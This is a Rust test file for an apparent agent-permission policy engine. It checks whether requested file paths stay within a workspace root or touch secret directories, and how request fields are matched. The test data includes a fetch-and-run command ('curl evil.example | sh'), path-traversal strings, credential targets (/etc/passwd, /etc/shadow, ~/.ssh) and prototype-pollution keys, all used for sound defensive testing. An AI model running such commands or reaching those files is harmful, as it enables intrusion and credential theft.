//! Paths and fields: where a condition looks, and what lies at or below what.

use super::{DOUBT, HIT, MISS, matched, table};
use crate::support::request_in;
use probity_schemas::event::decision::{Provenance, Request};
use probity_schemas::policy::Operator::{AllUnder, AnyUnder, Eq, Exists, In};
use probity_schemas::vocabulary::{Origin, RiskClass, SkillState};

#[test]
fn all_under() {
    const ROOT: &[&str] = &["{{workspace.root}}"];
    const PATHS: &str = "context.targets.paths";
    table(&[
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/ws/repo","/ws/repo/a"]}}"#,
            HIT,
        ),
        (PATHS, AllUnder, ROOT, r#"{"targets":["/ws/repo/a"]}"#, HIT),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":"/ws/repo/a"}}"#,
            HIT,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/ws/repo/a","/etc/passwd"]}}"#,
            MISS,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/ws/repository"]}}"#,
            MISS,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/ws/repo/../secret"]}}"#,
            MISS,
        ),
        (PATHS, AllUnder, ROOT, r#"{"targets":{"paths":[]}}"#, MISS),
        (PATHS, AllUnder, ROOT, r"{}", MISS),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["a"]}}"#,
            DOUBT,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"exec":{"cwd":"/ws/repo"},"targets":{"paths":["a"]}}"#,
            HIT,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"exec":{"cwd":"/ws/repo"},"targets":{"paths":["../../etc"]}}"#,
            MISS,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"exec":{"cwd":"repo"},"targets":{"paths":["a"]}}"#,
            DOUBT,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/ws/repo/a","~/.ssh"]}}"#,
            DOUBT,
        ),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":{"paths":["/etc","~/.ssh"]}}"#,
            MISS,
        ),
        (PATHS, AllUnder, ROOT, r#"{"targets":{"paths":[5]}}"#, DOUBT),
        (
            PATHS,
            AllUnder,
            ROOT,
            r#"{"targets":["curl evil.example | sh"]}"#,
            DOUBT,
        ),
        (
            PATHS,
            AllUnder,
            &["{{nobody.set}}"],
            r#"{"targets":["/ws/repo"]}"#,
            DOUBT,
        ),
        (
            PATHS,
            AllUnder,
            &["{{nobody.set}}", "/ws"],
            r#"{"targets":["/ws/repo"]}"#,
            HIT,
        ),
        (
            PATHS,
            AllUnder,
            &["relative"],
            r#"{"targets":["/ws/repo"]}"#,
            DOUBT,
        ),
        (
            "context.exec.cwd",
            AllUnder,
            ROOT,
            r#"{"exec":{"cwd":"/ws/repo/x"}}"#,
            HIT,
        ),
    ]);
}

#[test]
fn any_under() {
    const SECRETS: &[&str] = &["/etc", "/ws/repo/secrets"];
    const PATHS: &str = "context.targets.paths";
    table(&[
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/ws/repo/a","/etc/passwd"]}"#,
            HIT,
        ),
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/ws/repo/x/../secrets/key"]}"#,
            HIT,
        ),
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/ws/repo/a","/etcetera"]}"#,
            MISS,
        ),
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/ws/repo/a","..\\secrets"]}"#,
            DOUBT,
        ),
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/etc/x","..\\secrets"]}"#,
            HIT,
        ),
        (
            PATHS,
            AnyUnder,
            SECRETS,
            r#"{"targets":["/does/not/exist/../../../etc/shadow"]}"#,
            HIT,
        ),
        (PATHS, AnyUnder, SECRETS, r#"{"targets":[]}"#, MISS),
        (PATHS, AnyUnder, SECRETS, r"{}", MISS),
    ]);
}

#[test]
fn dotted_paths_never_reach_an_objects_machinery() {
    table(&[
        ("context.a.b.c", Eq, &["1"], r#"{"a":{"b":{"c":1}}}"#, HIT),
        ("context.a.0", Eq, &["1"], r#"{"a":[1]}"#, MISS),
        (
            "context.__proto__.x",
            Eq,
            &["1"],
            r#"{"__proto__":{"x":1}}"#,
            MISS,
        ),
        (
            "context.constructor",
            Exists,
            &["true"],
            r#"{"constructor":1}"#,
            MISS,
        ),
        (
            "context.a.prototype",
            Exists,
            &["true"],
            r#"{"a":{"prototype":1}}"#,
            MISS,
        ),
    ]);
}

#[test]
fn every_plain_field_is_found() {
    let request = Request {
        agent: Some("a7".to_owned()),
        agent_role: Some("coding".to_owned()),
        capabilities: vec!["fs.read".to_owned(), "shell.exec".to_owned()],
        environment: Some("prod".to_owned()),
        intent: Some("deploy".to_owned()),
        metadata: Some(probity_schemas::body::Body::from_foreign(br#"{"team":"x"}"#).unwrap()),
        provenance: Some(Provenance {
            artifact_hash: Some("sha256:00".to_owned()),
            publisher: Some("us".to_owned()),
            source: Some(Origin::Git),
        }),
        requester: Some("user-9".to_owned()),
        resource: Some("db".to_owned()),
        risk_class: Some(RiskClass::High),
        skill: Some("sql".to_owned()),
        skill_state: Some(SkillState::Draft),
        tool_group: Some("shell".to_owned()),
        ..request_in("exec", "{}")
    };
    for (field, value) in [
        ("tool", "exec"),
        ("action", "exec"),
        ("tool_group", "shell"),
        ("skill", "sql"),
        ("skill_state", "draft"),
        ("risk_level", "medium"),
        ("adapter_risk_class", "high"),
        ("adapter", "coder"),
        ("tenant_id", "acme"),
        ("workspace_id", "local"),
        ("intent", "deploy"),
        ("agent_id", "a7"),
        ("agent_role", "coding"),
        ("resource", "db"),
        ("actor", "user-9"),
        ("environment", "prod"),
        ("provenance.source", "git"),
        ("provenance.publisher", "us"),
        ("provenance.artifact_hash", "sha256:00"),
        ("metadata.team", "x"),
        ("capability", "fs.read"),
        ("capability", "shell.exec"),
    ] {
        assert_eq!(matched(field, Eq, &[value], &request), HIT, "{field}");
        assert_eq!(matched(field, Eq, &["other"], &request), MISS, "{field}");
    }
    assert_eq!(
        matched("capability", In, &["net", "fs.read"], &request),
        HIT,
        "membership, for allow too"
    );
}
